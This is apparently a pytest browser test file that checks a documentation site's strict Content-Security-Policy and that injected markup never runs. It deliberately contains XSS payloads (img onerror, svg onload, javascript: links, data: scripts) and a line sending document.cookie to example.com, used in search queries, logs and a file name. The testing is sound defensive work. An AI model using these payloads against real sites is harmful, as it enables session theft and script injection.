"""The Content-Security-Policy: it stops nothing of ours (on any page: test_browser.py), and all that somebody brings along."""

import re
from urllib.parse import quote

import pytest

from readyonce.publish import csp, site
from support.browser import answered, visit, wait_until, wait_until_told
from support.hosting import headers, served
from support.logs import LOG
from support.project import edit

LANGUAGES = ("", "zh/")
SCRIPT = "<script>window.broken = 1</script>"
MARKUP = (
    f"<img src=x onerror=window.broken=1><svg onload=window.broken=1><a href=javascript:window.broken=1>x</a>{SCRIPT}"
)


def test_every_page_has_one_and_it_is_strict(built):
    pages = [path.read_text(encoding="utf-8") for path in built.rglob("*.html")]
    told = headers(built)["Content-Security-Policy"]
    for text in [*pages, told]:
        found = told if text is told else re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)[1]
        assert found.startswith("default-src 'none'; script-src 'self' 'sha256-")
        assert "unsafe" not in found and "*" not in found and "http:" not in found and "https:" not in found
        assert text is told or text.index("Content-Security-Policy") < text.index("<link")  # nothing is loaded before
        assert text is told or text.index("<meta charset") < 1024
    assert all(len(line) < 2000 for line in (built / "_headers").read_text(encoding="utf-8").splitlines())


def test_nginx_sends_the_same_headers(built):
    lines = (built / "headers.nginx.conf").read_text(encoding="utf-8").splitlines()
    assert dict(re.fullmatch(r'add_header ([\w-]+) "([^"]*)" always;', line).groups() for line in lines) == headers(
        built
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_a_reader_does_works_under_it(browser, strict, language):
    for name in ("", "decision/", "incidents/RO-0001/", "diagnose/"):
        for _, page, _, complaints in visit(browser, strict, [language + name]):
            page.keyboard.press("/")
            page.keyboard.insert_text("RO-0003")
            page.keyboard.press("Shift")
            page.wait_for_selector(".md-search-result__link[href*='RO-0003']")
            page.keyboard.press("Escape")
            page.locator("h1 .ro-copy button").first.click()
            for folded in page.locator(".md-content details > summary:visible").all():
                folded.click()
            for note in page.locator(".md-annotation__index").all()[:2]:
                note.click()
            if name == "diagnose/":
                page.fill("#ro-log", LOG)
                assert "RO-0003" in answered(page)
            assert not complaints, (language + name, complaints)


def test_page_that_is_not_found(browser, published):
    address, folder = published
    with served(folder, headers(folder)) as strict:
        for _, page, _, complaints in visit(browser, strict, ["RO-0003"]):
            assert page.locator("h1").inner_text().startswith("Page not found")
            assert not [complaint for complaint in complaints if "stopped by" in complaint], complaints
        for asked in ("%3Cimg%20src=x%20onerror=window.broken=1%3E/RO-3", "RO-3/%ff"):  # the second is no UTF-8
            for _, page, _, complaints in visit(browser, address, [asked]):
                assert "RO-0003" in page.locator("#ro-guess").inner_text()
                assert not page.locator("#ro-guess img").count() and not broken(page)
                assert all("404" in it or it == address + asked for it in complaints), complaints


# ------------------------------------------------------------------------------ what somebody brings along


# A promise that is kept when an image of ours has failed, and with it every one that was there before.
NO_IMAGE = "new Promise(done => Object.assign(new Image(), { onerror: done, src: 'data:image/png,none' }))"


def broken(page) -> bool:
    return page.evaluate("'broken' in window")


@pytest.mark.parametrize("how", ["element", "handler", "address", "eval", "style", "elsewhere"])
def test_a_script_that_got_into_a_page_does_not_run(browser, address, how):
    """Were there a hole, the policy would still stop it; here the hole is made."""
    holes = {
        "element": "const it = document.createElement('script'); it.textContent = 'broken = 1'; document.body.append(it)",
        "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"broken = 1\">')",
        "address": "const it = document.createElement('a'); it.href = 'javascript:broken = 1'; document.body.append(it); it.click()",
        "eval": "const it = document.createElement('script'); it.src = 'data:text/javascript,broken = 1'; document.body.append(it)",
        "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
        "elsewhere": "fetch('https://example.com/?' + document.cookie).catch(() => 0)",
    }
    for _, page, _, complaints in visit(browser, address, [""]):
        page.evaluate(holes[how])
        wait_until_told(page, lambda complaints=complaints: any("stopped by" in it for it in complaints))
        assert not broken(page)


@pytest.mark.parametrize("language", LANGUAGES)
def test_markup_in_a_search_query(browser, strict, language):
    for name in ("", f"?q={quote(MARKUP)}", f"?h={quote(MARKUP)}", f"#{quote(MARKUP)}", f"#__search{MARKUP}"):
        for _, page, _, complaints in visit(browser, strict, [language + name]):
            for query in (MARKUP, f"RO-0003 {SCRIPT}"):
                page.keyboard.press("/")
                page.fill(".md-search__input", query)
                page.keyboard.press("Shift")
                wait_until(page, "document.querySelector('.md-search-result__meta').textContent.trim() !== ''")
                if query != MARKUP:
                    page.wait_for_selector(".md-search-result__link[href*='RO-0003']")
                page.evaluate(NO_IMAGE)
                assert not broken(page) and not complaints, (name, complaints)
                assert not page.locator(".md-search :is(script, img, a[href^=javascript])").count()


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("way", ["paste", "fragment", "file"])
def test_markup_in_a_log(browser, strict, tmp_path, way, language):
    log = f"{MARKUP}\nRuntimeError: 'weight' must be 2-D {MARKUP}\n{MARKUP}"
    fragment = f"#log={quote(log)}" if way == "fragment" else ""
    for _, page, _, complaints in visit(browser, strict, [f"{language}diagnose/{fragment}"]):
        if way == "paste":
            page.fill("#ro-log", log)
        if way == "file":
            (path := tmp_path / f"<img src=x onerror=window.broken=1>{SCRIPT[:8]}.log").write_text(log)
            page.set_input_files('[data-ro="file"]', path)
        assert "must be 2-D" in answered(page)
        assert SCRIPT in page.text_content(".ro-around")  # shown as it is
        assert not page.locator(".ro-diagnose :is(script, img, svg, iframe)").count()
        assert not broken(page) and not complaints, complaints


def test_what_an_author_writes_never_becomes_a_script(browser, copy):
    edit(copy / "docs/en/contributing.md", "## Rules", f"<p></article>{SCRIPT}</p>\n\n## Rules")
    assert site.build(copy, take_along=()) == 0
    assert SCRIPT in (copy / "site/contributing/index.html").read_text(encoding="utf-8")
    with served(copy / "site") as address:
        for _, page, _, complaints in visit(browser, address, ["contributing/"]):
            assert not broken(page) and any("stopped by script-src" in complaint for complaint in complaints)


def test_what_is_built_again_has_it_again(built, tmp_path):
    page = tmp_path / "index.html"
    page.write_text((built / "index.html").read_text(encoding="utf-8"), encoding="utf-8")
    before = page.read_bytes()
    assert csp.protect(tmp_path) and page.read_bytes() == before
